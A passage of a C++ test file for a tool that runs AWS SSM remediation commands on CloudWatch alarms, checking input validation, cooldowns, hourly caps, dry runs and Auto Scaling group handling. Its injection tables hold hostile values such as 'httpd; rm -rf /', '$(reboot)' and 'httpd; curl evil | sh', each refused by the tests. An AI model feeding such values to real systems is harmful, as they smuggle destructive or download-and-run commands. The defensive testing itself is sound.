// The guardrails of issue 18 against the scripted SSM stand-in: values refused before anything is
// sent (the injection table), transitions that are not acted on, one command per state change,
// the cooldown, the hourly cap, dry runs, the bounded memory; for an Auto Scaling group's alarm
// the opt-in, the group name refused when hostile, the request by tag, the guardrails per group.
// Time is the test's clock.
#include "stand_in_fixture.hpp"

#include <alarmbridge/remediate/state_store.hpp>
#include <alarmbridge/slack/validate.hpp>

#include <map>
#include <regex>

using alarmbridge::remediate::decision;
using alarmbridge::remediate::decision_kind;
using alarmbridge::test::group_event;
using alarmbridge::test::seed_event;
using alarmbridge::test::set_dimension;

namespace {

const std::string enforce = alarmbridge::test::remediate_data("policy-enforce.json");
const std::string enforce_group = alarmbridge::test::remediate_data("policy-auto-scaling-group.json");

/// The enforce policy with other numbers for the cooldown and the cap.
std::string enforce_with(int cooldown, int cap) {
    auto p = nlohmann::json::parse(enforce);
    p["rules"][0]["cooldown_seconds"] = cooldown;
    p["rules"][0]["max_per_hour"] = cap;
    return p.dump();
}

/// The seed alarm as a new state change at the given time.
std::string change_at(const std::string& when) {
    return seed_event([&](nlohmann::json& a) { a["StateChangeTime"] = when; });
}

/// text with every code block (```...```) and inline code span (`...`) replaced by one '§': what
/// Slack renders as mrkdwn (formatting, emoji, links, mentions) rather than verbatim.
std::string outside_code(const std::string& text) {
    std::string out;
    for (std::size_t i = 0; i < text.size();) {
        const bool block = text.compare(i, 3, "```") == 0;
        if (block || text[i] == '`') {
            const std::size_t open = block ? 3 : 1;
            const auto close = text.find(block ? "```" : "`", i + open);
            if (close == std::string::npos) {  // an unclosed span is not code: Slack shows it as it is
                out += text.substr(i);
                break;
            }
            out += "§";
            i = close + open;
        } else {
            out += text[i++];
        }
    }
    return out;
}

/// Every URL-like token of text: a scheme (https:, mailto:, slack:), www., or a dotted host name
/// (evil.example, with or without a path).
std::vector<std::string> url_like_tokens(const std::string& text) {
    static const std::regex url(R"re([A-Za-z][A-Za-z0-9+.-]*:(//)?[^\s§*_~]+|www\.[^\s§]+|[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}[^\s§]*)re");
    std::vector<std::string> out;
    for (auto it = std::sregex_iterator(text.begin(), text.end(), url); it != std::sregex_iterator(); ++it) out.push_back(it->str());
    return out;
}

/// Every string of the message's JSON payload (what Slack receives).
void payload_strings(const nlohmann::json& j, std::vector<std::string>& out) {
    if (j.is_string()) out.push_back(j.get<std::string>());
    else if (j.is_structured())
        for (const auto& item : j) payload_strings(item, out);
}

/// Nothing from outside is live in Slack: the payload is valid and does not unfurl; in every text
/// of the payload, outside code spans there is no URL-like token, no '<' or '>' (links, mentions,
/// dates), and no emoji (":name:") or formatting character (* _ ~) other than the message's own
/// (the same text as the message of skeleton, the same decision with every outside value "x").
void expect_inert(const alarmbridge::slack::message& m, const alarmbridge::slack::message& skeleton) {
    EXPECT_TRUE(alarmbridge::slack::validate(m).empty());
    EXPECT_EQ(m.unfurl_links, false);
    EXPECT_EQ(m.unfurl_media, false);
    std::vector<std::string> texts;
    payload_strings(nlohmann::json(m), texts);
    std::vector<std::string> skeleton_texts;
    payload_strings(nlohmann::json(skeleton), skeleton_texts);
    ASSERT_EQ(texts.size(), skeleton_texts.size());
    for (std::size_t i = 0; i < texts.size(); ++i) {
        const std::string live = outside_code(texts[i]);
        EXPECT_TRUE(url_like_tokens(live).empty()) << live << "\n(first: " << url_like_tokens(live).front() << ")";
        EXPECT_EQ(live.find('<'), std::string::npos) << live;
        EXPECT_EQ(live.find('>'), std::string::npos) << live;
        EXPECT_EQ(live, outside_code(skeleton_texts[i])) << "outside code spans, the text differs from the skeleton's";
    }
}

/// d with every value that came from outside (alarm, policy, SSM) replaced by "x".
decision skeleton_of(decision d) {
    const auto x = [](std::string& s) {
        if (!s.empty()) s = "x";
    };
    const auto ox = [](std::optional<std::string>& s) {
        if (s) *s = "x";
    };
    x(d.reason), x(d.alarm_name), x(d.standard_error);
    ox(d.rule), ox(d.instance), ox(d.document), ox(d.command_id);
    if (d.status != "Success") ox(d.status);  // the one status the message words differently
    std::map<std::string, std::vector<std::string>> parameters;
    for (auto& [name, values] : d.parameters) parameters["x" + std::to_string(parameters.size())] = std::vector<std::string>(values.size(), "x");
    d.parameters = parameters;
    if (d.auto_scaling_group) x(d.auto_scaling_group->name), x(d.auto_scaling_group->max_concurrency), x(d.auto_scaling_group->max_errors);
    for (auto& i : d.instances) {
        x(i.instance), x(i.standard_error);
        if (i.status_details == i.status) i.status_details.clear();
        if (i.status != "Success") x(i.status);
        x(i.status_details);
    }
    return d;
}

void expect_inert(const decision& d) {
    SCOPED_TRACE(d.reason);
    expect_inert(alarmbridge::remediate::outcome_message(d), alarmbridge::remediate::outcome_message(skeleton_of(d)));
}

}  // namespace

using remediate_guardrails = alarmbridge::test::stand_in_fixture;

TEST_F(remediate_guardrails, the_seed_alarm_sends_one_restart_in_the_alarms_region) {
    auto r = make(enforce, "success");
    const auto d = run(r, seed_event());
    ASSERT_EQ(d.size(), 1u);
    EXPECT_EQ(d[0].kind, decision_kind::sent) << d[0].reason;
    EXPECT_EQ(d[0].status, "Success");
    EXPECT_FALSE(d[0].failed);
    EXPECT_EQ(alarmbridge::remediate::to_json(d[0]).dump(),
              R"({"record":0,"rule":"restart-on-procstat","decision":"sent","reason":"sent; the command ended Success",)"
              R"("instance":"i-03e6aec1a93443558","document":"alarmbridge-RestartService","parameters":{"ServiceName":["httpd"]},)"
              R"("command_id":")" + key + R"(-command-1","status":"Success"})");
    const auto got = received();
    ASSERT_GE(got.size(), 2u);
    EXPECT_EQ(got[0]["target"], "AmazonSSM.SendCommand");
    EXPECT_EQ(got[0]["region"], "ap-northeast-2");  // the alarm's, from its ARN, not AWS_REGION
    const auto& body = got[0]["body"];
    EXPECT_EQ(body["DocumentName"], "alarmbridge-RestartService");
    EXPECT_EQ(body["InstanceIds"], nlohmann::json::array({"i-03e6aec1a93443558"}));
    EXPECT_EQ(body["Parameters"], nlohmann::json::parse(R"({"ServiceName":["httpd"]})"));
    EXPECT_EQ(body["TimeoutSeconds"], 600);
    EXPECT_NE(body["Comment"].get<std::string>().find("jisoo-test-cw"), std::string::npos);
    EXPECT_LE(body["Comment"].get<std::string>().size(), 100u);
    EXPECT_EQ(got[1]["target"], "AmazonSSM.GetCommandInvocation");
    EXPECT_EQ(got[1]["body"]["CommandId"], key + "-command-1");
}

TEST_F(remediate_guardrails, every_value_of_the_injection_table_is_refused_with_its_reason_and_nothing_is_sent) {
    struct row {
        std::string value;
        std::string reason;
    };
    const std::vector<row> table{
        {"httpd; rm -rf /", "holds ';'"},
        {"httpd rm", "holds a space"},
        {"httpd<!channel>", "holds '<'"},
        {"httpd;reboot", "holds ';'"},
        {"$(reboot)", "holds '$'"},
        {"`reboot`", "holds '`'"},
        {"httpd\nreboot", "holds a newline"},
        {"httpd\rreboot", "holds a carriage return"},
        {"httpd'", "holds '''"},
        {"httpd\"", "holds '\"'"},
        {"-httpd", "starts with '-'"},
        {"--help", "starts with '-'"},
        {std::string(65, 'h'), "longer than 64 bytes"},
        {"\xD2\xBBttpd", "outside ASCII"},          // U+04BB CYRILLIC SMALL LETTER SHHA, looks like h
        {"\xEF\xBD\x88ttpd", "outside ASCII"},      // U+FF48 FULLWIDTH LATIN SMALL LETTER H
        {"httpd\xE2\x80\x8B", "outside ASCII"},     // a zero-width space after the name
        {"httpd|sh", "holds '|'"},
        {"../../bin/sh", "holds '/'"},
        {"", "is empty"},
        {"nginx-evil", "not on the rule's allowlist"},  // a plain name, but not an allowed one
        // Units that are not services: `systemctl restart reboot.target` reboots.
        {"reboot.target", "ends in .target"},
        {"poweroff.target", "ends in .target"},
        {"rescue.target", "ends in .target"},
        {"sshd.socket", "ends in .socket"},
        {"tmp.mount", "ends in .mount"},
        {"logrotate.timer", "ends in .timer"},
        {"user.slice", "ends in .slice"},
        {"..", "path step"},
        {".", "path step"},
    };
    auto r = make(enforce, "success");
    for (std::size_t i = 0; i < table.size(); ++i) {
        const auto d = run(r, seed_event([&](nlohmann::json& a) {
            set_dimension(a, "exe", table[i].value);
            a["StateChangeTime"] = "2022-06-28T01:57:" + std::to_string(10 + i) + ".000+0000";
        }));
        ASSERT_EQ(d.size(), 1u);
        SCOPED_TRACE(i);
        EXPECT_EQ(d[0].kind, decision_kind::skipped);
        EXPECT_NE(d[0].reason.find("refused"), std::string::npos) << d[0].reason;
        EXPECT_NE(d[0].reason.find(table[i].reason), std::string::npos) << d[0].reason;
        EXPECT_TRUE(d[0].parameters.empty());
        EXPECT_FALSE(d[0].command_id.has_value());
        EXPECT_TRUE(d[0].notify);  // Slack is told
        const auto m = alarmbridge::remediate::outcome_message(d[0]);
        expect_inert(d[0]);
        EXPECT_NE(m.text->find("No remediation"), std::string::npos);
    }
    EXPECT_TRUE(received().empty());  // not one request reached SSM
}

TEST_F(remediate_guardrails, an_instance_id_that_is_not_one_is_refused) {
    auto r = make(enforce, "success");
    const std::vector<std::string> ids{"i-03e6aec1a93443558; reboot", "i-03E6AEC1A93443558", "i-0123456", "i-0123456789abcdef01",
                                       "$(reboot)", "mi-03e6aec1a93443558", "i-03e6aec1a9344355g"};
    for (std::size_t i = 0; i < ids.size(); ++i) {
        const auto d = run(r, seed_event([&](nlohmann::json& a) {
            set_dimension(a, "InstanceId", ids[i]);
            a["StateChangeTime"] = "2022-06-28T01:58:" + std::to_string(10 + i) + ".000+0000";
        }));
        EXPECT_EQ(d[0].kind, decision_kind::skipped) << ids[i];
        EXPECT_NE(d[0].reason.find("is not an instance id"), std::string::npos) << d[0].reason;
        expect_inert(d[0]);
    }
    EXPECT_TRUE(received().empty());
}

TEST_F(remediate_guardrails, a_permissive_pattern_still_lets_no_shell_text_through) {
    const std::string policy = R"({"mode": "enforce", "rules": [{"name": "custom",
        "match": {"namespace": "CWAgent"},
        "action": {"run_document": {"document": "Team-RestartService",
                   "parameters": {"Unit": {"from_dimension": "exe", "allowed_pattern": "^.*$"}}}}}]})";
    auto r = make(policy, "success");
    auto refused = run(r, seed_event([](nlohmann::json& a) { set_dimension(a, "exe", "httpd; curl evil | sh"); }));
    EXPECT_EQ(refused[0].kind, decision_kind::skipped);
    EXPECT_TRUE(received().empty());
    auto sent = run(r, seed_event([](nlohmann::json& a) { a["StateChangeTime"] = "2022-06-28T02:00:00.000+0000"; }));
    ASSERT_EQ(sent[0].kind, decision_kind::sent) << sent[0].reason;
    const auto got = received();
    EXPECT_EQ(got[0]["body"]["DocumentName"], "Team-RestartService");
    EXPECT_EQ(got[0]["body"]["Parameters"], nlohmann::json::parse(R"({"Unit":["httpd"]})"));
}

TEST_F(remediate_guardrails, ok_and_insufficient_data_and_a_repeated_alarm_state_do_nothing) {
    auto r = make(enforce, "success");
    const std::vector<std::pair<std::string, std::string>> transitions{
        {"ALARM", "OK"}, {"OK", "INSUFFICIENT_DATA"}, {"ALARM", "INSUFFICIENT_DATA"}, {"ALARM", "ALARM"}};
    for (const auto& [from, to] : transitions) {
        const auto d = run(r, seed_event([&, from = from, to = to](nlohmann::json& a) {
            a["OldStateValue"] = from;
            a["NewStateValue"] = to;
        }));
        EXPECT_EQ(d[0].kind, decision_kind::skipped) << from << "->" << to;
        EXPECT_EQ(d[0].rule, "restart-on-procstat");
        EXPECT_FALSE(d[0].notify);  // nothing for Slack either
        EXPECT_FALSE(d[0].failed);
    }
    EXPECT_TRUE(received().empty());
}

TEST_F(remediate_guardrails, a_rule_may_act_on_insufficient_data) {
    auto p = nlohmann::json::parse(enforce);
    p["rules"][0]["on_states"] = {"INSUFFICIENT_DATA"};
    auto r = make(p.dump(), "success");
    EXPECT_EQ(run(r, seed_event())[0].kind, decision_kind::skipped);
    const auto d = run(r, seed_event([](nlohmann::json& a) { a["NewStateValue"] = "INSUFFICIENT_DATA"; }));
    EXPECT_EQ(d[0].kind, decision_kind::sent) << d[0].reason;
    EXPECT_EQ(count("SendCommand"), 1);
}

TEST_F(remediate_guardrails, an_alarm_no_rule_matches_is_left_alone_quietly) {
    auto r = make(enforce, "success");
    const auto d = run(r, seed_event([](nlohmann::json& a) { a["Trigger"]["Namespace"] = "AWS/EC2"; }));
    EXPECT_EQ(d[0].kind, decision_kind::skipped);
    EXPECT_FALSE(d[0].rule.has_value());
    EXPECT_FALSE(d[0].notify);
    EXPECT_EQ(alarmbridge::remediate::to_json(d[0]).dump(),
              R"({"record":0,"decision":"skipped","reason":"no rule matches the alarm"})");
}

TEST_F(remediate_guardrails, repeated_deliveries_of_one_state_change_send_one_command) {
    auto r = make(enforce, "success");
    // SNS delivering the same notification three times, once as a two-record event.
    auto event = nlohmann::json::parse(seed_event());
    event["Records"].push_back(event["Records"][0]);
    const auto first = run(r, event.dump());
    const auto again = run(r, seed_event());
    ASSERT_EQ(first.size(), 2u);
    EXPECT_EQ(first[0].kind, decision_kind::sent);
    EXPECT_EQ(first[1].kind, decision_kind::skipped);
    EXPECT_NE(first[1].reason.find("already acted on"), std::string::npos);
    EXPECT_FALSE(first[1].notify);
    EXPECT_EQ(again[0].kind, decision_kind::skipped);
    EXPECT_EQ(count("SendCommand"), 1);
}

TEST_F(remediate_guardrails, the_cooldown_holds_per_instance_and_service) {
    auto r = make(enforce_with(600, 10), "success");
    EXPECT_EQ(run(r, change_at("2022-06-28T01:57:35.603+0000"))[0].kind, decision_kind::sent);
    time->advance(std::chrono::seconds(60));
    const auto cooling = run(r, change_at("2022-06-28T01:58:35.603+0000"));
    EXPECT_EQ(cooling[0].kind, decision_kind::skipped);
    EXPECT_NE(cooling[0].reason.find("cooldown"), std::string::npos);
    EXPECT_TRUE(cooling[0].notify);  // Slack is told why
    // Another service on the same instance is not cooling down.
    const auto other = run(r, seed_event([](nlohmann::json& a) {
        set_dimension(a, "exe", "nginx");
        a["StateChangeTime"] = "2022-06-28T01:58:40.000+0000";
    }));
    EXPECT_EQ(other[0].kind, decision_kind::sent) << other[0].reason;
    time->advance(std::chrono::seconds(600));
    EXPECT_EQ(run(r, change_at("2022-06-28T02:08:35.603+0000"))[0].kind, decision_kind::sent);
    EXPECT_EQ(count("SendCommand"), 3);
}

TEST_F(remediate_guardrails, the_hourly_cap_leaves_a_flapping_service_alone) {
    auto r = make(enforce_with(60, 3), "success");
    int minute = 0;
    auto next_change = [&] {
        time->advance(std::chrono::seconds(61));
        const int m = minute++;
        return change_at("2022-06-28T02:" + std::string(m < 10 ? "0" : "") + std::to_string(m) + ":00.000+0000");
    };
    for (int i = 0; i < 3; ++i) EXPECT_EQ(run(r, next_change())[0].kind, decision_kind::sent) << i;
    auto capped = run(r, next_change());
    EXPECT_EQ(capped[0].kind, decision_kind::skipped);
    EXPECT_NE(capped[0].reason.find("hourly cap"), std::string::npos) << capped[0].reason;
    EXPECT_TRUE(capped[0].notify);
    // Capped 10 s later: still the cap, not the cooldown (a capped change does not start one).
    time->advance(std::chrono::seconds(10));
    capped = run(r, change_at("2022-06-28T02:30:00.000+0000"));
    EXPECT_NE(capped[0].reason.find("hourly cap"), std::string::npos) << capped[0].reason;
    EXPECT_EQ(count("SendCommand"), 3);
    time->advance(std::chrono::seconds(3600));
    EXPECT_EQ(run(r, change_at("2022-06-28T03:40:00.000+0000"))[0].kind, decision_kind::sent);
    EXPECT_EQ(count("SendCommand"), 4);
}

TEST_F(remediate_guardrails, a_dry_run_sends_nothing_and_says_what_would_have_run) {
    for (bool forced : {false, true}) {
        auto r = make(forced ? enforce : alarmbridge::test::remediate_data("policy-dry-run.json"), "success", forced);
        const auto d = run(r, seed_event());
        EXPECT_EQ(d[0].kind, decision_kind::dry_run);
        EXPECT_EQ(alarmbridge::remediate::to_json(d[0])["parameters"].dump(), R"({"ServiceName":["httpd"]})");
        EXPECT_EQ(d[0].instance, "i-03e6aec1a93443558");
        EXPECT_FALSE(d[0].command_id.has_value());
        EXPECT_FALSE(d[0].failed);
        const auto m = alarmbridge::remediate::outcome_message(d[0]);
        expect_inert(d[0]);
        EXPECT_NE(m.text->find("would run `alarmbridge-RestartService` (`ServiceName=httpd`) on `i-03e6aec1a93443558`"),
                  std::string::npos)
            << *m.text;
        EXPECT_NE(m.text->find("nothing was sent"), std::string::npos) << *m.text;
        EXPECT_TRUE(received().empty());
    }
}

TEST_F(remediate_guardrails, one_decision_per_record_whatever_the_record_holds) {
    auto r = make(enforce, "success");
    auto event = nlohmann::json::parse(seed_event());
    auto text = event["Records"][0];
    text["Sns"]["Message"] = "Hello from SNS <!channel>";
    auto broken = event["Records"][0];
    broken["Sns"].erase("Message");
    event["Records"].push_back(text);
    event["Records"].push_back(broken);
    const auto d = run(r, event.dump());
    ASSERT_EQ(d.size(), 3u);
    EXPECT_EQ(d[0].kind, decision_kind::sent);
    EXPECT_EQ(d[1].record, 1u);
    EXPECT_EQ(d[1].kind, decision_kind::skipped);
    EXPECT_EQ(d[1].reason, "not an alarm (an SNS text message)");
    EXPECT_EQ(d[2].kind, decision_kind::skipped);
    EXPECT_NE(d[2].reason.find("could not be read"), std::string::npos) << d[2].reason;
    EXPECT_FALSE(d[1].notify || d[2].notify || d[1].failed);
    EXPECT_TRUE(d[2].failed);  // an unreadable record is not silently dropped: the caller fails (exit 1)
    EXPECT_EQ(count("SendCommand"), 1);
}

TEST(remediate_memory, the_in_process_memory_is_bounded_and_forgets_only_what_expired) {
    auto store = alarmbridge::remediate::make_memory_state_store(16);
    for (int i = 0; i < 8; ++i) EXPECT_TRUE(*store->claim("short" + std::to_string(i), 0, 10));
    for (int i = 0; i < 8; ++i) EXPECT_TRUE(*store->claim("long" + std::to_string(i), 0, 1000));
    auto full = store->claim("one-more", 5, 100);  // everything still live: refused, nothing forgotten
    ASSERT_FALSE(full);
    EXPECT_EQ(full.error().code, alarmbridge::errc::too_large);
    EXPECT_FALSE(*store->claim("long0", 5, 100));
    EXPECT_TRUE(*store->claim("one-more", 20, 100));  // the expired short ones made room
    EXPECT_FALSE(*store->claim("long7", 20, 100));
    EXPECT_TRUE(*store->release("long7"));
    EXPECT_TRUE(*store->claim("long7", 20, 100));
}

// Review of issue 18, finding 6: 7-14 flapping alarms filled the memory with state-change keys and
// then every claim was refused for a day. Now, when full: expired claims go, then the oldest
// state-change keys; live cooldown and cap claims are never forgotten. Time is the claims' "now".
TEST(remediate_memory, when_full_the_oldest_state_change_keys_go_before_any_live_cooldown_or_cap) {
    auto store = alarmbridge::remediate::make_memory_state_store(16);
    for (int i = 0; i < 4; ++i) EXPECT_TRUE(*store->claim("cooldown|i-" + std::to_string(i), 0, 600));
    for (int i = 0; i < 4; ++i) EXPECT_TRUE(*store->claim("cap|i-" + std::to_string(i) + "|0", 0, 3600));
    for (int i = 0; i < 8; ++i) EXPECT_TRUE(*store->claim("event|" + std::to_string(i), i, i + 86400));
    // Full of live claims; a flapping alarm's next state changes still get through.
    for (int i = 8; i < 40; ++i) {
        auto next = store->claim("event|" + std::to_string(i), i, i + 86400);
        ASSERT_TRUE(next) << i << ": " << next.error().describe();
        EXPECT_TRUE(*next) << i;
    }
    for (int i = 0; i < 4; ++i) {  // the cooldowns and caps all held
        EXPECT_FALSE(*store->claim("cooldown|i-" + std::to_string(i), 50, 650)) << i;
        EXPECT_FALSE(*store->claim("cap|i-" + std::to_string(i) + "|0", 50, 3650)) << i;
    }
    EXPECT_FALSE(*store->claim("event|39", 50, 86450));  // the newest state changes are remembered
    // Only live cooldown and cap claims: nothing may be forgotten, a new one is refused.
    auto only_guards = alarmbridge::remediate::make_memory_state_store(16);
    for (int i = 0; i < 16; ++i) EXPECT_TRUE(*only_guards->claim("cooldown|" + std::to_string(i), 0, 600));
    auto refused = only_guards->claim("event|new", 10, 86410);
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().code, alarmbridge::errc::too_large);
    EXPECT_TRUE(*only_guards->claim("event|new", 600, 87000));  // once they expired
}

/// A store that records the keys it is asked to claim, over the in-process one.
class recording_store : public alarmbridge::remediate::state_store {
public:
    std::vector<std::string> keys;
    std::shared_ptr<alarmbridge::remediate::state_store> inner = alarmbridge::remediate::make_memory_state_store(100);

protected:
    alarmbridge::result<bool> do_claim(const std::string& key, std::int64_t now, std::int64_t expires_at,
                                       alarmbridge::http::clock::time_point deadline) override {
        keys.push_back(key);
        return inner->claim(key, now, expires_at, deadline);
    }
    alarmbridge::result<bool> do_release(const std::string& key, alarmbridge::http::clock::time_point deadline) override {
        return inner->release(key, deadline);
    }
};

// Review of issue 18, finding 6: the state-change key is a SHA-256 of the ARN and the time in
// epoch ms (one key for two spellings of one time, 70 bytes for a 250 KB ARN); a time that is not
// a time is refused before anything is claimed or sent.
TEST_F(remediate_guardrails, the_state_change_key_is_a_hash_of_the_arn_and_the_time_and_a_bad_time_is_refused) {
    auto store = std::make_shared<recording_store>();
    auto r = make(enforce, "success", false, store);

    const std::string long_arn = "arn:aws:cloudwatch:ap-northeast-2:123456789012:alarm:" + std::string(250 * 1024, 'a');
    const auto garbage = run(r, seed_event([&](nlohmann::json& a) {
        a["AlarmArn"] = long_arn;
        a["StateChangeTime"] = std::string(1024, '7');
    }));
    ASSERT_EQ(garbage.size(), 1u);
    EXPECT_EQ(garbage[0].kind, decision_kind::skipped);
    EXPECT_NE(garbage[0].reason.find("is not a time"), std::string::npos) << garbage[0].reason;
    EXPECT_TRUE(garbage[0].notify);
    EXPECT_TRUE(store->keys.empty());
    EXPECT_TRUE(received().empty());

    const auto first = run(r, seed_event([&](nlohmann::json& a) { a["AlarmArn"] = long_arn; }));
    EXPECT_EQ(first[0].kind, decision_kind::sent) << first[0].reason;
    ASSERT_FALSE(store->keys.empty());
    EXPECT_EQ(store->keys[0].size(), 6u + 64u) << store->keys[0].substr(0, 80);
    EXPECT_EQ(store->keys[0].rfind("event|", 0), 0u);
    EXPECT_EQ(store->keys[0].find_first_not_of("0123456789abcdef", 6), std::string::npos);
    // The same instant written with "Z" instead of "+0000": the same state change.
    const auto same = run(r, seed_event([&](nlohmann::json& a) {
        a["AlarmArn"] = long_arn;
        a["StateChangeTime"] = "2022-06-28T01:57:35.603Z";
    }));
    EXPECT_EQ(same[0].kind, decision_kind::skipped);
    EXPECT_FALSE(same[0].notify);
    EXPECT_NE(same[0].reason.find("already acted on"), std::string::npos) << same[0].reason;
    for (const auto& k : store->keys) EXPECT_LE(k.size(), 1024u);
    EXPECT_EQ(count("SendCommand"), 1);
}

// --- Auto Scaling groups: an alarm with AutoScalingGroupName and no InstanceId ---

TEST_F(remediate_guardrails, a_group_alarm_sends_one_command_to_the_groups_tag_rolling_as_the_rule_says) {
    auto r = make(enforce_group, "group-success");
    const auto d = run(r, group_event("web-asg"));
    ASSERT_EQ(d.size(), 1u);
    EXPECT_EQ(d[0].kind, decision_kind::sent) << d[0].reason;
    EXPECT_FALSE(d[0].failed);
    EXPECT_FALSE(d[0].instance.has_value());
    EXPECT_EQ(alarmbridge::remediate::to_json(d[0]).dump(),
              R"({"record":0,"rule":"restart-in-group","decision":"sent","reason":"sent; the command ended Success on 3 of 3 instances",)"
              R"("auto_scaling_group":"web-asg","targets":[{"Key":"tag:aws:autoscaling:groupName","Values":["web-asg"]}],)"
              R"("max_concurrency":"1","max_errors":"0","document":"alarmbridge-RestartService","parameters":{"ServiceName":["httpd"]},)"
              R"("command_id":")" + key + R"(-command-1","status":"Success","target_count":3,"completed_count":3,"error_count":0,)"
              R"("instances":[{"instance":"i-000000000000000a0","status":"Success"},{"instance":"i-000000000000000a1","status":"Success"},)"
              R"({"instance":"i-000000000000000a2","status":"Success"}]})");
    const auto got = received();
    ASSERT_GE(got.size(), 1u);
    EXPECT_EQ(got[0]["target"], "AmazonSSM.SendCommand");
    EXPECT_EQ(got[0]["region"], "ap-northeast-2");
    const auto& body = got[0]["body"];
    EXPECT_FALSE(body.contains("InstanceIds"));
    EXPECT_EQ(body["Targets"], nlohmann::json::parse(R"([{"Key":"tag:aws:autoscaling:groupName","Values":["web-asg"]}])"));
    EXPECT_EQ(body["MaxConcurrency"], "1");
    EXPECT_EQ(body["MaxErrors"], "0");
    EXPECT_EQ(body["DocumentName"], "alarmbridge-RestartService");
    EXPECT_EQ(body["Parameters"], nlohmann::json::parse(R"({"ServiceName":["httpd"]})"));
    EXPECT_EQ(body["Comment"], "alarmbridge restart-in-group: jisoo-test-cw");
    EXPECT_EQ(body["TimeoutSeconds"], 600);
    EXPECT_EQ(count("SendCommand"), 1);
    EXPECT_EQ(count("ListCommands"), 2);  // InvalidCommandId right after sending, then Success
    EXPECT_EQ(count("ListCommandInvocations"), 1);
    EXPECT_EQ(count("GetCommandInvocation"), 0);  // no instance failed: no stderr to read
    const auto m = alarmbridge::remediate::outcome_message(d[0]);
    expect_inert(d[0]);
    EXPECT_NE(m.text->find(":white_check_mark: Remediation of `jisoo-test-cw`: ran `alarmbridge-RestartService` (`ServiceName=httpd`) "
                           "on the instances of Auto Scaling group `web-asg` (`1` at a time, stopping after `0` errors): *`Success`* on 3 of 3 instances"),
              std::string::npos)
        << *m.text;
}

TEST_F(remediate_guardrails, without_the_opt_in_a_group_alarm_is_skipped_with_how_to_opt_in) {
    auto r = make(enforce, "group-success");
    const auto d = run(r, group_event("web-asg"));
    EXPECT_EQ(d[0].kind, decision_kind::skipped);
    EXPECT_TRUE(d[0].notify);  // a rule matched: Slack is told why nothing ran
    EXPECT_FALSE(d[0].failed);
    EXPECT_NE(d[0].reason.find("only AutoScalingGroupName"), std::string::npos) << d[0].reason;
    EXPECT_NE(d[0].reason.find(R"("auto_scaling_group": {"max_concurrency": "1", "max_errors": "0"})"), std::string::npos) << d[0].reason;
    EXPECT_FALSE(alarmbridge::remediate::to_json(d[0]).contains("auto_scaling_group"));
    expect_inert(d[0]);
    // Neither dimension: the reason of old.
    const auto none = run(r, group_event("web-asg", [](nlohmann::json& a) {
        a["Trigger"]["Dimensions"].erase(a["Trigger"]["Dimensions"].size() - 1);
        a["StateChangeTime"] = "2022-06-28T02:00:00.000+0000";
    }));
    EXPECT_EQ(none[0].reason, "the alarm has no InstanceId dimension");
    EXPECT_TRUE(received().empty());
}

TEST_F(remediate_guardrails, the_instance_id_wins_when_both_dimensions_are_present) {
    auto r = make(enforce_group, "success");
    const auto d = run(r, seed_event([](nlohmann::json& a) {
        a["Trigger"]["Dimensions"].push_back({{"value", "web-asg"}, {"name", "AutoScalingGroupName"}});
    }));
    EXPECT_EQ(d[0].kind, decision_kind::sent) << d[0].reason;
    EXPECT_EQ(d[0].instance, "i-03e6aec1a93443558");
    EXPECT_FALSE(d[0].auto_scaling_group.has_value());
    const auto report = alarmbridge::remediate::to_json(d[0]);
    for (const char* group_key : {"auto_scaling_group", "targets", "max_concurrency", "max_errors", "target_count", "instances"})
        EXPECT_FALSE(report.contains(group_key)) << group_key;
    const auto body = received()[0]["body"];
    EXPECT_EQ(body["InstanceIds"], nlohmann::json::array({"i-03e6aec1a93443558"}));
    EXPECT_FALSE(body.contains("Targets"));
    EXPECT_FALSE(body.contains("MaxConcurrency"));
}

TEST_F(remediate_guardrails, a_hostile_group_name_is_refused_with_its_reason_and_nothing_is_sent) {
    struct row {
        std::string value;
        std::string reason;
    };
    const std::vector<row> table{
        {"web; reboot", "holds ';'"},
        {"web asg", "holds a space"},
        {"$(reboot)", "holds '$'"},
        {"`reboot`", "holds '`'"},
        {"web\nasg", "holds a newline"},
        {"<!channel>", "holds '<'"},
        {"<https://evil.example/|web>", "holds '<'"},
        {"web\"", "holds '\"'"},
        {"web,asg", "holds ','"},
        {"web/asg", "holds '/'"},
        {"*", "holds '*'"},
        {"-web", "starts with '-'"},
        {std::string(256, 'w'), "longer than 255 bytes"},
        {"\xEF\xBD\x97" "eb", "outside ASCII"},  // U+FF57 FULLWIDTH LATIN SMALL LETTER W
        {"web\xE2\x80\x8B", "outside ASCII"},     // a zero-width space
        {"", "is empty"},
    };
    auto r = make(enforce_group, "group-success");
    for (std::size_t i = 0; i < table.size(); ++i) {
        SCOPED_TRACE(i);
        const auto d = run(r, group_event(table[i].value, [&](nlohmann::json& a) {
            a["StateChangeTime"] = "2022-06-28T01:57:" + std::to_string(10 + i) + ".000+0000";
        }));
        EXPECT_EQ(d[0].kind, decision_kind::skipped);
        EXPECT_NE(d[0].reason.find("refused: the AutoScalingGroupName dimension"), std::string::npos) << d[0].reason;
        EXPECT_NE(d[0].reason.find(table[i].reason), std::string::npos) << d[0].reason;
        EXPECT_FALSE(d[0].auto_scaling_group.has_value());
        EXPECT_TRUE(d[0].notify);  // Slack is told
        expect_inert(d[0]);
    }
    EXPECT_TRUE(received().empty());  // not one request reached SSM
    // The longest plain name there may be goes through as the tag's one value.
    const std::string longest(255, 'w');
    const auto d = run(r, group_event(longest, [](nlohmann::json& a) { a["StateChangeTime"] = "2022-06-28T02:10:00.000+0000"; }));
    EXPECT_EQ(d[0].kind, decision_kind::sent) << d[0].reason;
    EXPECT_EQ(received()[0]["body"]["Targets"][0]["Values"], nlohmann::json::array({longest}));
}

TEST_F(remediate_guardrails, the_cooldown_and_the_cap_hold_per_group) {
    auto p = nlohmann::json::parse(enforce_group);
    p["rules"][0]["max_per_hour"] = 2;
    auto r = make(p.dump(), "group-success");
    auto alarm = [](const std::string& name, const std::string& group, const std::string& when) {
        return group_event(group, [&](nlohmann::json& a) {
            a["AlarmName"] = name;
            a["AlarmArn"] = "arn:aws:cloudwatch:ap-northeast-2:123456789012:alarm:" + name;
            a["StateChangeTime"] = when;
        });
    };
    EXPECT_EQ(run(r, alarm("web-httpd-a", "web-asg", "2022-06-28T01:57:00.000+0000"))[0].kind, decision_kind::sent);
    time->advance(std::chrono::seconds(60));
    // A second alarm for the same group (another alarm, another state change) within the cooldown.
    const auto cooling = run(r, alarm("web-httpd-b", "web-asg", "2022-06-28T01:58:00.000+0000"));
